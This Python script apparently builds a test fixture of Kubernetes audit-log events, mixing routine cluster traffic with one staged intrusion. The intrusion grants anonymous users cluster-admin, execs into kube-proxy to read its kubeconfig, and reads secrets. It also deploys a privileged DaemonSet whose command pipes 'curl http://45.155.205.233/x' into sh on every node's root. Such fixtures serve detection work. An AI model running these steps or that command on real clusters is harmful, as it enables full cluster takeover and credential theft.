"""Writes attack-scenario.jsonl: a day of ordinary cluster traffic with one intrusion in it.

The intrusion: an anonymous scan from the internet finds the API open to anonymous reads;
the attacker, holding a leaked admin credential and connecting through Tor, grants
system:anonymous cluster-admin, reads a kubeconfig out of kube-proxy with exec, and starts
a DaemonSet that mounts every node's root file system writable. Run from this folder:
python3 generate.py"""
import random
import sys

sys.path.insert(0, "../scripts")
from fixture_events import event, write, container, host_volume, mount

random.seed(7)
events = []


def at(minute, second=0):
    return f"2024-05-14T{9 + minute // 60:02d}:{minute % 60:02d}:{second:02d}.{random.randint(0, 999999):06d}Z"


NODES = ["ip-10-0-1-17.ec2.internal", "ip-10-0-2-45.ec2.internal", "ip-10-0-3-88.ec2.internal"]
# Ordinary traffic: kubelets, controllers, a CI deployer, a developer.
for minute in range(0, 180):
    node = NODES[minute % 3]
    events.append(event("get", f"/api/v1/nodes/{node}?resourceVersion=0&timeout=10s", resource="nodes", name=node,
                        user=f"system:node:{node}", groups=("system:nodes", "system:authenticated"),
                        ips=("10.0.1.17",), agent="kubelet/v1.29.3 (linux/amd64) kubernetes/6813625", level="Metadata",
                        ts=at(minute, 5), tag="node"))
    events.append(event("watch", "/api/v1/pods?allowWatchBookmarks=true&watch=true", resource="pods",
                        user="system:kube-scheduler", groups=("system:authenticated",), ips=("10.0.0.10",),
                        agent="kube-scheduler/v1.29.3 (linux/amd64) kubernetes/6813625/scheduler", level="Metadata",
                        ts=at(minute, 20), tag="sched"))
    if minute % 15 == 0:
        events.append(event("patch", "/apis/apps/v1/namespaces/shop/deployments/checkout", resource="deployments",
                            namespace="shop", name="checkout", api_group="apps",
                            user="system:serviceaccount:ci:deployer", groups=("system:serviceaccounts", "system:authenticated"),
                            ips=("10.0.4.20",), agent="argocd-application-controller/v2.10.4", level="Metadata",
                            ts=at(minute, 40), tag="ci"))
    if minute % 30 == 7:
        events.append(event("get", "/api/v1/namespaces/shop/pods/checkout-7f9c6d5b4-x8k2p/log?container=checkout",
                            resource="pods", subresource="log", namespace="shop", name="checkout-7f9c6d5b4-x8k2p",
                            user="dana@example.com", groups=("developers", "system:authenticated"),
                            ips=("10.0.9.31",), level="Metadata", ts=at(minute, 50), tag="dev"))

# 1. An anonymous scan from the internet.
SCANNER = dict(user="system:anonymous", groups=("system:unauthenticated",), ips=("45.155.205.233",),
               agent="python-requests/2.31.0", level="Metadata", tag="scan")
events += [
    event("get", "/version", ts=at(61, 1), **SCANNER),
    event("get", "/api", ts=at(61, 2), **SCANNER),
    event("get", "/apis", ts=at(61, 3), **SCANNER),
    event("list", "/api/v1/namespaces/kube-system/pods", resource="pods", namespace="kube-system", ts=at(61, 4), **SCANNER),
    event("list", "/api/v1/nodes", resource="nodes", ts=at(61, 5), **SCANNER),
    event("list", "/api/v1/secrets", resource="secrets", code=403, decision="forbid", ts=at(61, 6), **SCANNER),
]

# 2. The leaked admin credential, used from a Tor exit node.
ADMIN = dict(user="kubernetes-admin", groups=("system:masters", "system:authenticated"), ips=("185.220.101.47",),
             agent="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", tag="tor")
binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
           "metadata": {"name": "system:public-info-viewer-ext", "uid": "8b0e9d6c-4c1f-4a59-9d43-5a2f0c8b7e11"},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "system:anonymous"}]}
events.append(event("create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", resource="clusterrolebindings",
                    api_group="rbac.authorization.k8s.io", code=201, request=binding, response=binding,
                    ts=at(75, 10), **ADMIN))

# 3. A shell in kube-proxy to read its kubeconfig (all three stages are logged).
exec_uri = ("/api/v1/namespaces/kube-system/pods/kube-proxy-9xw4t/exec?command=sh&command=-c"
            "&command=cat+%2Fvar%2Flib%2Fkube-proxy%2Fkubeconfig&container=kube-proxy&stderr=true&stdout=true")
for stage in ["RequestReceived", "ResponseStarted", "ResponseComplete"]:
    e = event("create", exec_uri, resource="pods", subresource="exec", namespace="kube-system", name="kube-proxy-9xw4t",
              code=101, stage=stage, level="Request", ts=at(76, 2), **ADMIN)
    events.append(e)
# One request: every stage carries its auditID and requestReceivedTimestamp; only stageTimestamp moves.
stamps = sorted(e["requestReceivedTimestamp"] for e in events[-3:])
for e, stamp in zip(events[-3:], stamps):
    e["stageTimestamp"] = stamp
    e["auditID"], e["requestReceivedTimestamp"] = events[-3]["auditID"], stamps[0]

# 4. Persistence on every node: a DaemonSet that mounts the host root writable.
ds = {"apiVersion": "apps/v1", "kind": "DaemonSet",
      "metadata": {"name": "node-problem-reporter", "namespace": "kube-system", "uid": "d41c2e7a-0b5f-4e8e-9a41-3f6b2c1d0e99"},
      "spec": {"selector": {"matchLabels": {"app": "npr"}}, "template": {"metadata": {"labels": {"app": "npr"}}, "spec": {
          "hostPID": True, "hostNetwork": True,
          "containers": [container("reporter", "docker.io/alpine/socat:1.7.4.4", [mount("host", "/host")],
                                   command=["sh", "-c", "chroot /host sh -c 'curl -s http://45.155.205.233/x | sh'"],
                                   securityContext={"privileged": True})],
          "volumes": [host_volume("host", "/")]}}}}
events.append(event("create", "/apis/apps/v1/namespaces/kube-system/daemonsets", resource="daemonsets",
                    namespace="kube-system", api_group="apps", code=201, request=ds, response=ds, ts=at(78, 30), **ADMIN))

# 5. With cluster-admin granted, the anonymous scanner comes back for secrets.
events += [
    event("list", "/api/v1/secrets", resource="secrets", ts=at(80, 1), **SCANNER),
    event("get", "/api/v1/namespaces/kube-system/secrets/aws-credentials", resource="secrets", namespace="kube-system",
          name="aws-credentials", ts=at(80, 2), **SCANNER),
    event("list", "/apis/apps/v1/deployments", resource="deployments", api_group="apps", ts=at(80, 3), **SCANNER),
]

events.sort(key=lambda e: e["requestReceivedTimestamp"])
write("attack-scenario.jsonl", events)
print(f"wrote {len(events)} events")
